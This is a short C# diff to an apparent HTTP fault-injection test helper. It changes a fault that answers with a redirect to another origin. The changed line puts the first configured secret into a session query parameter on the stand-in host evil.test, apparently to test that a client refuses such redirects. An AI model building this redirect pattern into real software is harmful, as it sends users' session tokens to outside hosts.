@@ -36,7 +36,7 @@ internal static class StatusFaults
 
     private static Fault Redirect(HttpStatusCode status, string form) =>
         new("redirect to another origin", form, FaultRule.Refused, moment => Task.FromResult(
-            Answers.Error(moment, status).With("Location", $"https://evil.test/?session={moment.Echo.Split(' ')[2]}")))
+            Answers.Error(moment, status).With("Location", $"https://evil.test/?session={moment.Secrets[0]}")))
         {
             Status = status,
         };
